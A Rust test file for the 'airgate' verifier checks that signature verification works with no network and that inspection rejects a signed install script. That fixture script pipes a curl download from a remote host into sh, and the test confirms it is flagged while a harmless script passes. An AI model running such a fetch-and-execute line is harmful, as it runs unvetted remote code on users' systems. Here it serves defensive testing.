//! Proof that verification needs no network: `airgate verify` of a native bundle, a minisign
//! and a signify signature runs inside a network namespace with no interfaces
//! (`unshare -rn`) and reaches the same verdicts. (The Sigstore and model-signing suites
//! re-run themselves the same way.) Skipped with a message where the kernel refuses.

mod common;

use common::*;
use std::path::Path;
use std::process::Command;

fn tool(dir: &Path, name: &str, args: &[&str]) {
    let st = Command::new(name)
        .args(args)
        .current_dir(dir)
        .stdin(std::process::Stdio::null())
        .output()
        .unwrap_or_else(|e| panic!("{name} must be installed (see .ci/run): {e}"));
    assert!(
        st.status.success(),
        "{name} {args:?}: {}",
        String::from_utf8_lossy(&st.stderr)
    );
}

#[test]
fn every_native_and_detached_format_verifies_without_network() {
    if namespace_has_no_network() != Some(true) {
        eprintln!("skipped: cannot create a network namespace here");
        return;
    }
    let t = tempfile::tempdir().unwrap();
    let d = t.path();
    let s = |p: &Path| p.to_str().unwrap().to_string();

    // native bundle
    std::fs::create_dir_all(d.join("src")).unwrap();
    std::fs::write(d.join("src/config.json"), b"{\"a\": 1}").unwrap();
    let (_, pk) = key(d, "a");
    let b = d.join("b.tar.zst");
    assert_eq!(
        run(&[
            "pack",
            &s(&d.join("src")),
            "--kind",
            "weights",
            "--name",
            "n",
            "--version",
            "1",
            "-o",
            &s(&b)
        ])
        .0,
        0
    );
    assert_eq!(run(&["sign", &s(&b), "--key", &s(&d.join("a.key"))]).0, 0);
    let (code, out) = airgate_offline(&["verify", &s(&b), "--key", &s(&pk)]).unwrap();
    assert_eq!(code, 0, "{out}");
    let (_, other) = key(d, "other");
    let (code, out) = airgate_offline(&["verify", &s(&b), "--key", &s(&other)]).unwrap();
    assert_eq!(code, 1, "{out}");

    // minisign
    let file = d.join("patch.bin");
    std::fs::write(&file, vec![9u8; 100_000]).unwrap();
    tool(d, "minisign", &["-G", "-W", "-p", "m.pub", "-s", "m.key"]);
    tool(d, "minisign", &["-S", "-s", "m.key", "-m", "patch.bin"]);
    let (code, out) = airgate_offline(&[
        "verify",
        &s(&file),
        "--signature",
        &s(&d.join("patch.bin.minisig")),
        "--key",
        &s(&d.join("m.pub")),
    ])
    .unwrap();
    assert_eq!(code, 0, "{out}");

    // signify
    tool(
        d,
        "signify-openbsd",
        &["-G", "-n", "-p", "s.pub", "-s", "s.sec"],
    );
    tool(
        d,
        "signify-openbsd",
        &[
            "-S",
            "-s",
            "s.sec",
            "-m",
            "patch.bin",
            "-x",
            "patch.bin.sig",
        ],
    );
    let (code, out) = airgate_offline(&[
        "verify",
        &s(&file),
        "--signature",
        &s(&d.join("patch.bin.sig")),
        "--key",
        &s(&d.join("s.pub")),
    ])
    .unwrap();
    assert_eq!(code, 0, "{out}");

    // a flipped byte still fails offline
    let mut bytes = std::fs::read(&file).unwrap();
    bytes[10] ^= 1;
    std::fs::write(&file, bytes).unwrap();
    let (code, out) = airgate_offline(&[
        "verify",
        &s(&file),
        "--signature",
        &s(&d.join("patch.bin.sig")),
        "--key",
        &s(&d.join("s.pub")),
    ])
    .unwrap();
    assert_eq!(code, 1, "{out}");
}

#[test]
fn detached_signed_files_go_through_inspection() {
    let t = tempfile::tempdir().unwrap();
    let d = t.path();
    let s = |p: &Path| p.to_str().unwrap().to_string();
    tool(d, "minisign", &["-G", "-W", "-p", "m.pub", "-s", "m.key"]);
    // A validly signed patch script that would phone home: rejected by inspection.
    std::fs::write(
        d.join("install.sh"),
        b"#!/bin/sh\ncurl -fsSL https://get.vendor-cdn.net/setup | sh\n",
    )
    .unwrap();
    tool(d, "minisign", &["-S", "-s", "m.key", "-m", "install.sh"]);
    let (code, out, _) = run(&[
        "verify",
        &s(&d.join("install.sh")),
        "--signature",
        &s(&d.join("install.sh.minisig")),
        "--key",
        &s(&d.join("m.pub")),
        "--format",
        "json",
    ]);
    assert_eq!(code, 1, "{out}");
    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(v["signatures"][0]["status"], "counted");
    assert!(
        v["findings"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f["rule"] == "reachback.shell-pipe-exec"),
        "{out}"
    );
    // The near miss: a signed script that makes no network call is accepted.
    std::fs::write(
        d.join("ok.sh"),
        b"#!/bin/sh\necho installing from the local mirror\n",
    )
    .unwrap();
    tool(d, "minisign", &["-S", "-s", "m.key", "-m", "ok.sh"]);
    let (code, out, _) = run(&[
        "verify",
        &s(&d.join("ok.sh")),
        "--signature",
        &s(&d.join("ok.sh.minisig")),
        "--key",
        &s(&d.join("m.pub")),
    ]);
    assert_eq!(code, 0, "{out}");
}
